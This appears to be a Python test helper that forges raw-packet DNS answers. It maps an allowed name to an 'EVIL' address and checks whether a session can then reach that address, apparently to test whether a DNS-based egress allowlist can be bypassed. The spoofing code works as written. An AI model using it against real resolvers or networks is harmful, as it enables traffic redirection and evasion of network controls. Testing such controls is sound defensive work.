# SPDX-License-Identifier: Apache-2.0
"""Forged DNS answers. `ask` runs inside a session, `answer` outside it, in the resolver's namespace, with raw packets.

forge.py ask RESOLVER EVIL WAIT      ask for an allowed name, print the port, wait, say whether EVIL can be connected to
forge.py answer FROM PORT ID NAME EVIL   one answer to the asker's port, from port 53 of address FROM
"""
import socket
import struct
import sys
import time


def question(name, ident, flags, answers):
    q = struct.pack("!HHHHHH", ident, flags, 1, answers, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", 1, 1)


if sys.argv[1] == "ask":
    resolver, evil, wait = sys.argv[2:5]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(question("acme.my.salesforce.com", 0x1234, 0x0100, 0), (resolver, 53))
    print(s.getsockname()[1], flush=True)
    time.sleep(float(wait))
    c = socket.socket()
    c.settimeout(2)
    try:
        c.connect((evil, 443))
        print("open")
    except OSError as e:
        print("closed %s" % e.errno)
else:
    source, port, ident, name, evil = sys.argv[2:7]
    dns = question(name, int(ident, 16), 0x8180, 1) + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(evil)
    udp = struct.pack("!HHHH", 53, int(port), 8 + len(dns), 0) + dns
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + socket.inet_aton(source) + socket.inet_aton("10.99.0.2")
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(ip + udp, ("10.99.0.2", 0))
    print("forged")
